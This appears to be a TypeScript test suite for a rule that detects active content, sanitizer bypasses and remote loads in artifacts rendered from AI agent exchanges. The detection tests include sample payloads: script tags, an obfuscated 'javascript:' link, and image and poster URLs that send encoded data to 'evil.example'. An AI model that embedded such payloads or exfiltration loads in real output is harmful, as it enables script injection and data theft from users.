import { describe, expect, it } from 'vitest';
import { atsi } from '../../src/rules/atsi.ts';
import { minimalEvidence } from '../../src/rules/minimal.ts';
import { ACTIVE, by, INERT, joined, judge, produced, render, rendered } from './atsi-traces.ts';
import {
  body,
  expectAnchored,
  expectMinimal,
  expectNothingWithoutEdges,
  expectPath,
  level,
  sha256,
  shown,
  told,
} from './support.ts';

describe('condition and control', () => {
  it('finds the artifact, once, with the actual indicator', () => {
    const { triggers, statements } = judge(rendered(ACTIVE));
    expect([triggers, ...told(statements)]).toEqual([1, 'ATSI_ACTIVE_CONTENT_INTERPRETED a']);
    expect(statements[0]!.explanation).toContain('event-handler');
    expect(statements[0]!.explanation).toContain('steal()');
    expectPath(statements[0]!);
    expect(shown(statements[0]!.path)).toEqual([
      'RuntimeExchange x',
      'EXCHANGE_PRODUCED_ARTIFACT',
      'ArtifactEvidence a',
    ]);
    expect(shown(expectMinimal(atsi.judge, statements[0]!, by()))).toEqual([
      'RuntimeExchange x',
      'EXCHANGE_PRODUCED_ARTIFACT',
      'ArtifactEvidence a',
      'ARTIFACT_RENDERED',
      'ArtifactRenderEvidence v',
    ]);
  });

  it('says nothing of inert content that was rendered', () => {
    expect(judge(rendered(INERT))).toEqual({ triggers: 1, statements: [] });
  });

  it('gives one finding for an artifact that was rendered twice, and counts the other', () => {
    const trace = rendered(ACTIVE).add('artifact_renders', 'v2', {
      artifact_record_id: 'a',
      interpreted_as: 'text/html',
      input_sha256: sha256(ACTIVE),
    });
    const { triggers, statements } = judge(trace);
    expect([triggers, ...told(statements)]).toEqual([2, 'ATSI_ACTIVE_CONTENT_INTERPRETED a']);
    expect(statements[0]!.explanation).toContain('Further renders with the same result: 1');
  });

  it('switches on the marker of experiments by the profile', () => {
    const text = '<p>a2aft-marker</p>';
    expect(told(judge(rendered(text), { inert_marker: 'a2aft-marker' }).statements)).toEqual([
      'ATSI_ACTIVE_CONTENT_INTERPRETED a',
    ]);
    expect(judge(rendered(text)).statements).toEqual([]);
  });
});

describe('anchors', () => {
  it('is INCONCLUSIVE without any one anchor edge, and names it', () => {
    expectAnchored(atsi.judge, rendered(ACTIVE), by(), ['EXCHANGE_PRODUCED_ARTIFACT', 'ARTIFACT_RENDERED']);
  });
  it('is INCONCLUSIVE for every trigger on records without edges', () => {
    expectNothingWithoutEdges(atsi.judge, rendered(ACTIVE), by());
    expectNothingWithoutEdges(atsi.judge, rendered(INERT), by());
    expectNothingWithoutEdges(atsi.judge, produced(ACTIVE), by());
    expectNothingWithoutEdges(atsi.judge, joined(['<scr', 'ipt>']), by());
  });
});

describe('which bytes the renderer received', () => {
  const sanitized = (output: string, input: string, linked: 'by render' | 'by artifact') =>
    render(
      produced(ACTIVE).add('sanitizers', 's', {
        artifact_record_id: linked === 'by artifact' ? 'a' : null,
        input_sha256: sha256(ACTIVE),
        output: body(output),
      }),
      input,
      { sanitizer_id: linked === 'by render' ? 's' : null },
    );

  it.each(['by render', 'by artifact'] as const)('judges the output of a sanitizer that is linked %s', (linked) => {
    expect(judge(sanitized(INERT, INERT, linked)).statements).toEqual([]);
    const kept = judge(sanitized('<a href="java&#10;script:x()">x</a>', '<a href="java&#10;script:x()">x</a>', linked));
    expect(told(kept.statements)).toEqual(['ATSI_ACTIVE_CONTENT_INTERPRETED a']);
    expect(kept.statements[0]!.explanation).toContain('the output of sanitizer sanitizer (s)');
    expect(shown(expectMinimal(atsi.judge, kept.statements[0]!, by()))).toContain('SanitizerEvidence s');
  });

  it('judges the artifact itself where the sanitizer was bypassed', () => {
    expect(told(judge(sanitized(INERT, ACTIVE, 'by artifact')).statements)).toEqual([
      'ATSI_ACTIVE_CONTENT_INTERPRETED a',
    ]);
  });

  it('finds a script that is split over chunks, on all of them', () => {
    const trace = joined(['<scr', 'ipt>alert(1)</scr', 'ipt>']);
    render(trace, '<script>alert(1)</script>', { artifact_record_id: 'c2' });
    const { statements } = judge(trace);
    expect(told(statements)).toEqual(['ATSI_ACTIVE_CONTENT_INTERPRETED c2']);
    const minimal = shown(expectMinimal(atsi.judge, statements[0]!, by()));
    expect(minimal.filter((name) => name === 'ARTIFACT_APPENDS_TO')).toHaveLength(2);
  });

  it('judges one chunk alone where that is what was rendered', () => {
    const trace = render(joined(['<script>', INERT]), INERT, { artifact_record_id: 'c1' });
    expect(judge(trace)).toEqual({ triggers: 1, statements: [] });
  });

  it('is INCONCLUSIVE for bytes that nothing recorded has', () => {
    const { statements } = judge(render(produced(INERT), ACTIVE));
    expect(told(statements)).toEqual(['ATSI_INPUT_NOT_TRACED v']);
    expect(statements[0]!.missing).toEqual(['input_sha256']);
    expectPath(statements[0]!);
  });

  it('bounds what it puts together: every prefix of a long stream rendered', () => {
    const part = '<p>'.padEnd(1024 * 1024, 'x');
    const trace = joined(Array.from({ length: 12 }, () => part));
    for (let i = 1; i < 12; i++) {
      trace.add('artifact_renders', `v${i}`, {
        artifact_record_id: `c${i}`,
        interpreted_as: 'image/svg+xml',
        input_sha256: sha256(part.repeat(i + 1)),
      });
    }
    const reasons = judge(trace).statements.map(({ reason, affected }) => `${reason} ${affected.id}`);
    expect(reasons).toEqual(['ATSI_NOT_JUDGED c1']);
  });

  it('says one thing of a stream whose every prefix was rendered, and counts the rest', () => {
    const texts = Array.from({ length: 1000 }, (_, i) => (i === 0 ? ACTIVE : 'x'));
    const trace = joined(texts);
    for (const i of texts.keys()) {
      const input = i % 2 === 0 ? texts.slice(0, i + 1).join('') : 'other bytes';
      const fields = { artifact_record_id: `c${i}`, interpreted_as: 'text/html', input_sha256: sha256(input) };
      trace.add('artifact_renders', `v${i}`, fields);
    }
    const { triggers, statements } = judge(trace);
    expect([triggers, ...told(statements)]).toEqual([
      1000,
      'ATSI_ACTIVE_CONTENT_INTERPRETED c0',
      'ATSI_INPUT_NOT_TRACED v1',
    ]);
    for (const statement of statements) {
      expect(statement.explanation).toContain('Further renders with the same result: 499.');
      expectMinimal(atsi.judge, statement, by());
    }
  });

  it('follows twenty thousand chunks, more than a stack is deep', () => {
    const texts = Array.from({ length: 20_000 }, (_, i) => (i === 10_000 ? '<script>x()</script>' : 'a'));
    const trace = render(joined(texts), texts.join(''), { artifact_record_id: 'c19999' });
    const { statements } = judge(trace);
    expect(told(statements)).toEqual(['ATSI_ACTIVE_CONTENT_INTERPRETED c19999']);
    expect(minimalEvidence(atsi.judge, statements[0]!, by())).toHaveLength(3 + 2 * 20_000);
  });
});

describe('what the renderer took it for', () => {
  it('takes the source view for inert, at most an observation', () => {
    const { statements } = judge(rendered(ACTIVE, { mode: 'source' }));
    expect(told(statements)).toEqual(['ATSI_ACTIVE_SHOWN_AS_SOURCE a']);
    expect(level(statements[0]!)).toBe('note');
    expectMinimal(atsi.judge, statements[0]!, by());
    expect(judge(rendered(INERT, { mode: 'source' })).statements).toEqual([]);
  });

  it.each(['text/plain', 'application/json', 'image/png'])('takes active content for inert as %s', (type) => {
    expect(judge(rendered(ACTIVE, { interpreted_as: type }))).toEqual({ triggers: 1, statements: [] });
  });

  it('is INCONCLUSIVE where the type is not known', () => {
    const { statements } = judge(rendered(INERT, { interpreted_as: null }));
    expect(told(statements)).toEqual(['FACT_MISSING v']);
    expect(statements[0]!.missing).toEqual(['interpreted_as']);
  });

  it('is INCONCLUSIVE for a type without a detector, and names it', () => {
    const { statements } = judge(rendered('%PDF-1.7', { interpreted_as: 'application/pdf' }));
    expect(told(statements)).toEqual(['ATSI_NOT_JUDGED a']);
    expect(statements[0]!.explanation).toContain('application/pdf');
    expectMinimal(atsi.judge, statements[0]!, by());
  });

  it('observes what is not active as received, and looks as if it could be', () => {
    const { statements } = judge(rendered('<p onfoo="x()">hello</p>'));
    expect(told(statements)).toEqual(['ATSI_LATENT_ACTIVE_CONTENT a']);
    expect(level(statements[0]!)).toBe('warning');
    expectMinimal(atsi.judge, statements[0]!, by());
  });

  it('calls active content in a renderer that the profile lists as sandboxed an observation', () => {
    const { statements } = judge(rendered(ACTIVE), { sandboxed_renderers: ['panel'] });
    expect(told(statements)).toEqual(['ATSI_ACTIVE_CONTENT_SANDBOXED a']);
    expect(level(statements[0]!)).toBe('warning');
    expect(told(judge(rendered(ACTIVE), { sandboxed_renderers: ['other'] }).statements)).toEqual([
      'ATSI_ACTIVE_CONTENT_INTERPRETED a',
    ]);
  });

  it.each([
    ['code fence', '```html\n<script>alert(1)</script>\n```'],
    ['code span', 'Use `<script>` with care.'],
    ['prose', 'The onclick handler of a script runs javascript: it is dangerous.'],
    ['link', 'See [the report](https://elsewhere.example/report).'],
  ])('takes a %s in Markdown for inert', (_trap, text) => {
    expect(judge(rendered(text, { interpreted_as: 'text/markdown' })).statements).toEqual([]);
  });
});

describe('remote loads', () => {
  it.each([
    ['![p](https://evil.example/p?d=QUJD)', 'text/markdown', 'https://evil.example/p?d=QUJD'],
    ['![p][1]\n\n[1]: https://evil.example/p?d=QUJD', 'text/markdown', 'https://evil.example/p?d=QUJD'],
    ['<video poster="https://evil.example/p?d=S"></video>', 'text/html', 'https://evil.example/p?d=S'],
  ])('finds the load of %s under its own code, with host and full URL', (text, type, url) => {
    const { statements } = judge(rendered(text, { interpreted_as: type }));
    expect(told(statements)).toEqual(['ATSI_REMOTE_LOAD a']);
    expect(statements[0]!.explanation).toContain(url);
    expect(statements[0]!.explanation).toContain('"evil.example"');
    expectMinimal(atsi.judge, statements[0]!, by());
    expect(
      told(judge(rendered(text, { interpreted_as: type }), { sandboxed_renderers: ['panel'] }).statements),
    ).toEqual(['ATSI_REMOTE_LOAD_SANDBOXED a']);
  });

  it('takes a load from the host of the exchange for none', () => {
    const text = '![p](https://agent.example/p.png)';
    expect(judge(rendered(text, { interpreted_as: 'text/markdown' })).statements).toEqual([]);
  });

  it('does not count a load twice beside active content', () => {
    const text = `${ACTIVE}<img src="https://evil.example/p.png">`;
    const { statements } = judge(rendered(text));
    expect(told(statements)).toEqual(['ATSI_ACTIVE_CONTENT_INTERPRETED a']);
    expect(statements[0]!.explanation).toContain('https://evil.example/p.png');
  });
});
